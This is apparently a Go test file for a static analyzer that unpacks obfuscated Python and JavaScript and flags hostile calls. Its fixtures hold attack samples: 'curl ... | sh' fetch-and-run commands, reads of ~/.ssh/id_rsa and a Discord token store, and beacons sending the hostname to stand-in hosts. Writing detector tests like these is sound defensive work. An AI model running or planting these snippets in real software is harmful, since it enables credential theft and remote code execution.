package analyze

import (
	"encoding/base64"
	"strconv"
	"strings"
	"testing"
	"time"
)

func analyzeSrc(lang Lang, src string) *Facts {
	return Analyze(&Unit{Path: "f", Line: 1, Lang: lang, Text: []byte(src)}, DefaultLimits())
}

// hasString reports whether any unit (file or decoded layer) holds a
// string containing sub, and returns that unit's layers.
func hasString(f *Facts, sub string) ([]string, bool) {
	var layers []string
	found := false
	f.Walk(func(u *Facts) {
		for _, s := range u.Strings {
			if !found && strings.Contains(s.Value, sub) {
				layers, found = u.Unit.Layers, true
			}
		}
	})
	return layers, found
}

func findCall(f *Facts, callee string) (Call, *Facts, bool) {
	var out Call
	var unit *Facts
	ok := false
	f.Walk(func(u *Facts) {
		for _, c := range u.Calls {
			if !ok && c.Callee == callee {
				out, unit, ok = c, u, true
			}
		}
	})
	return out, unit, ok
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func TestPythonDecodedLayers(t *testing.T) {
	stage2 := "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
	inner := "exec(base64.b64decode('" + b64(stage2) + "'))"
	cases := []struct {
		name, src  string
		callee     string // a call that must be found in the decoded unit
		wantLayers string
	}{
		{"double base64", "import base64\nexec(base64.b64decode('" + b64(inner) + "'))\n", "open", "base64 base64"},
		{"chr array join", "exec(''.join(chr(c) for c in [" + codes("import os; os.system('curl http://x | sh')") + "]))", "os.system", "char-codes"},
		{"map chr", "x = ''.join(map(chr, [" + codes("import socket; socket.gethostname()") + "]))", "socket.gethostname", "char-codes"},
		{"reversed slice", "exec('" + reverse(`import os; os.system("id")`) + "'[::-1])", "os.system", "reverse"},
		{"rot13 codecs", "import codecs\nexec(codecs.decode('" + rot13(`import os; os.system("whoami")`) + "', 'rot13'))", "os.system", "rot13"},
		{"concatenated parts", "p = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0o' + 'J3VuYW1lIC1hJyk='\nexec(base64.b64decode(p))", "os.system", "base64"},
		{"bytes.fromhex", "exec(bytes.fromhex('" + hexs("import os; os.system('ls')") + "'))", "os.system", "hex"},
		{"reversed base64 behind a lambda", "_ = lambda __ : __import__('base64').b64decode(__[::-1])\nexec(_('" + reverse(b64("import os, sys\nos.system('id; uname -a; cat /etc/hostname')\n")) + "'))\n", "os.system", "reverse base64"},
		{"python2 exec statement", "print 'hello'\nexec base64.b64decode('" + b64("import os; os.system('reboot')") + "')\n", "os.system", "base64"},
	}
	for _, c := range cases {
		f := analyzeSrc(Python, c.src)
		call, u, ok := findCall(f, c.callee)
		if !ok {
			t.Errorf("%s: no unit calls %q", c.name, c.callee)
			continue
		}
		if got := strings.Join(u.Unit.Layers, " "); got != c.wantLayers {
			t.Errorf("%s: %s found behind layers %q, want %q", c.name, call.Callee, got, c.wantLayers)
		}
	}
	if _, ok := hasString(analyzeSrc(Python, "import base64\nexec(base64.b64decode('"+b64(inner)+"'))\n"), "~/.ssh/id_rsa"); !ok {
		t.Error("string inside the second layer not found")
	}
}

func TestPythonAliasesAndScope(t *testing.T) {
	src := `import subprocess as sp
from os import system as run
import base64 as b
x = __import__("socket")

def f():
    sp.Popen(["curl", "http://x"])

run("id")
x.gethostname()
exec(b.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))
`
	f := analyzeSrc(Python, src)
	for callee, inFunc := range map[string]bool{"subprocess.Popen": true, "os.system": false, "socket.gethostname": false} {
		c, _, ok := findCall(f, callee)
		if !ok {
			t.Errorf("callee %q not resolved", callee)
			continue
		}
		if c.InFunc != inFunc {
			t.Errorf("%s: InFunc %v, want %v", callee, c.InFunc, inFunc)
		}
	}
	if _, _, ok := findCall(analyzeSrc(Python, "__import__('builtins').exec(__import__('base64').b64decode(x))\n"), "builtins.exec"); !ok {
		t.Error("__import__('builtins').exec not resolved")
	}
	c, _, _ := findCall(f, "exec")
	if len(c.Inner) == 0 || c.Inner[0] != "base64.b64decode" {
		t.Errorf("exec inner calls %v, want base64.b64decode", c.Inner)
	}
	cmd := false
	for _, k := range f.Commands {
		if strings.Contains(k.Raw, "curl") {
			cmd = true
		}
	}
	if !cmd {
		t.Errorf("command from subprocess list argument not extracted: %+v", f.Commands)
	}
}

func TestPythonReassignmentDropsConstant(t *testing.T) {
	f := analyzeSrc(Python, "s = ''\ns = base64.b64decode(blob).decode()\nexec(s)\n")
	c, _, _ := findCall(f, "exec")
	if len(c.Args) != 1 || c.Args[0].IsStr {
		t.Errorf("exec(s) after reassignment must not fold to the old constant: %+v", c.Args)
	}
}

func TestJavaScriptResolutionAndDecoding(t *testing.T) {
	src := `const { exec: run } = require('child_process');
const h = require("https"), os = require('os');
function go() { h.request({hostname: 'x.oast.fun', method: 'POST'}) }
run('curl http://evil | sh');
eval(atob('` + b64("require('child_process').execSync('id')") + `'));
var s = String.fromCharCode(` + codes("process.env") + `);
var r = 'llehs'.split('').reverse().join('');
os.hostname();
`
	f := analyzeSrc(JavaScript, src)
	for callee, inFunc := range map[string]bool{"child_process.exec": false, "https.request": true, "os.hostname": false, "eval": false} {
		c, _, ok := findCall(f, callee)
		if !ok {
			t.Errorf("callee %q not resolved", callee)
			continue
		}
		if c.InFunc != inFunc {
			t.Errorf("%s: InFunc %v, want %v", callee, c.InFunc, inFunc)
		}
	}
	if c, _, _ := findCall(f, "https.request"); c.Keywords["method"] != "POST" {
		t.Errorf("object-literal options not read: %v", c.Keywords)
	}
	if _, _, ok := findCall(f, "child_process.execSync"); !ok {
		t.Errorf("call inside atob payload not found")
	}
	piped := false
	for _, k := range f.Commands {
		piped = piped || k.PipedToShell
	}
	if !piped {
		t.Errorf("curl | sh not seen as piped to a shell: %+v", f.Commands)
	}
	if _, ok := hasString(f, "shell"); !ok {
		t.Errorf("split/reverse/join not folded")
	}
}

func TestPathJoinFolded(t *testing.T) {
	f := analyzeSrc(Python, "import os\np = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n")
	if _, ok := hasString(f, "$/discord/Local Storage/leveldb"); !ok {
		t.Errorf("path join not folded: %+v", f.Strings)
	}
}

func TestObfuscationSignals(t *testing.T) {
	kinds := func(src string, lang Lang) map[string]bool {
		m := map[string]bool{}
		for _, n := range analyzeSrc(lang, src).Obfuscation {
			m[n.Kind] = true
		}
		return m
	}
	confusable := "OO0o0OO0o = 1\nO0O0o0oO0 = 2\nOOOO0000o = 3\nO0oO0oO0o = 4\no0O0o0O0O = 5\n"
	if !kinds(confusable, Python)["confusable-names"] {
		t.Error("look-alike identifiers not noticed")
	}
	if !kinds("f = getattr(__builtins__, 'ex' + 'ec')\n", Python)["builtins-lookup"] {
		t.Error("computed builtins lookup not noticed")
	}
	if !kinds("m = __import__('\\x7a\\x6c\\x69\\x62')\n", Python)["escaped-name"] {
		t.Error("escaped module name not noticed")
	}
	if !kinds("k='abc'\nout=''.join(chr(ord(c) ^ 7) for c in data)\n", Python)["xor-decode"] {
		t.Error("XOR loop not noticed")
	}
	// benign look-alikes
	for _, src := range []string{"globals()[name] = value\n", "lower = eval\n", "getattr(builtins, name)\n", "x = 'plain'\n"} {
		if k := kinds(src, Python); len(k) > 0 {
			t.Errorf("%q: unexpected obfuscation %v", src, k)
		}
	}
}

func TestBudgetBoundsLayers(t *testing.T) {
	// 30 nested base64 layers: analysis stops at MaxDepth without error
	payload := "import os; os.system('id')"
	for i := 0; i < 30; i++ {
		payload = "exec(base64.b64decode('" + b64(payload) + "'))"
	}
	lim := DefaultLimits()
	f := Analyze(&Unit{Path: "f", Line: 1, Lang: Python, Text: []byte(payload)}, lim)
	depth := 0
	f.Walk(func(u *Facts) {
		if len(u.Unit.Layers) > depth {
			depth = len(u.Unit.Layers)
		}
	})
	if depth == 0 || depth > lim.MaxDepth+1 {
		t.Errorf("layers followed %d deep, want 1..%d", depth, lim.MaxDepth+1)
	}
}

func codes(s string) string {
	var p []string
	for _, r := range s {
		p = append(p, strconv.Itoa(int(r)))
	}
	return strings.Join(p, ",")
}

func reverse(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

func rot13(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z':
			return 'a' + (r-'a'+13)%26
		case r >= 'A' && r <= 'Z':
			return 'A' + (r-'A'+13)%26
		}
		return r
	}, s)
}

func hexs(s string) string {
	const h = "0123456789abcdef"
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		b.WriteByte(h[s[i]>>4])
		b.WriteByte(h[s[i]&15])
	}
	return b.String()
}

func TestFunctionsCalledAtLoad(t *testing.T) {
	src := `import requests, socket

def helper():
    return 1

def steal():
    requests.post("https://x.example", data=socket.gethostname())

class Grabber:
    def run(self):
        requests.get("https://y.example")

steal()

if __name__ == "__main__":
    socket.create_connection(("z.example", 80))
`
	f := analyzeSrc(Python, src)
	if c, _, _ := findCall(f, "socket.create_connection"); !c.InFunc {
		t.Error("code under the __main__ guard does not run on import")
	}
	if c, _, _ := findCall(f, "requests.post"); c.InFunc {
		t.Error("body of a function called at module level must count as module-level code")
	}
	if c, _, _ := findCall(f, "requests.get"); !c.InFunc {
		t.Error("method of a class never used at module level is still inside a function")
	}
}

func TestJSFunctionsCalledAtLoad(t *testing.T) {
	src := `const https = require('https'), os = require('os');
function beacon() { https.get('https://x.example/?h=' + os.hostname()); }
const later = () => { https.request({hostname: 'y.example'}); };
beacon();
module.exports = { later };
`
	f := analyzeSrc(JavaScript, src)
	if c, _, _ := findCall(f, "https.get"); c.InFunc {
		t.Error("body of a function called at module level must count as module-level code")
	}
	if c, _, _ := findCall(f, "https.request"); !c.InFunc {
		t.Error("exported function never called at load is still inside a function")
	}
}

func TestInlineCodeOnCommandLines(t *testing.T) {
	f := Analyze(&Unit{Path: "package.json", Line: 1, Lang: Shell, Text: []byte(`node -e "require('child_process').exec('curl http://x | sh')"`)}, DefaultLimits())
	if _, _, ok := findCall(f, "child_process.exec"); !ok {
		t.Error("node -e code not analyzed as JavaScript")
	}
	g := analyzeSrc(Python, `import os
os.system("python3 -c 'import socket; socket.gethostname()'")
`)
	if _, _, ok := findCall(g, "socket.gethostname"); !ok {
		t.Error("python -c code not analyzed as Python")
	}
}

// Hostile shapes must stay near-linear: deep nesting, long chains.
func TestPathologicalInputsStayFast(t *testing.T) {
	const d = 20000
	inputs := map[string]struct {
		lang Lang
		src  string
	}{
		"nested calls py":  {Python, strings.Repeat("f(", d) + "1" + strings.Repeat(")", d)},
		"nested calls js":  {JavaScript, strings.Repeat("f(", d) + "1" + strings.Repeat(")", d)},
		"chained assign":   {JavaScript, strings.Repeat("a = ", d) + "1;"},
		"nested lists":     {Python, "x = " + strings.Repeat("[", d) + strings.Repeat("]", d)},
		"long concatenate": {Python, "x = " + strings.Repeat("'a' + ", d) + "'a'"},
	}
	for name, in := range inputs {
		start := time.Now()
		analyzeSrc(in.lang, in.src)
		if el := time.Since(start); el > 3*time.Second {
			t.Errorf("%s took %v", name, el)
		}
	}
}

func TestLambdaConstantsAndFStrings(t *testing.T) {
	src := `import subprocess
c = lambda: ''.join([chr(x) for x in [99, 117, 114, 108]])
b = lambda: 'bash'
u = 'http://x.example/i.sh'
subprocess.run(f"{c()} -s {u} | {b()}", shell=True)
`
	f := analyzeSrc(Python, src)
	piped := false
	for _, k := range f.Commands {
		if strings.HasPrefix(k.Raw, "curl -s http://x.example/i.sh") && k.PipedToShell {
			piped = true
		}
	}
	if !piped {
		t.Errorf("f-string fields not filled from constants: %+v", f.Commands)
	}
}
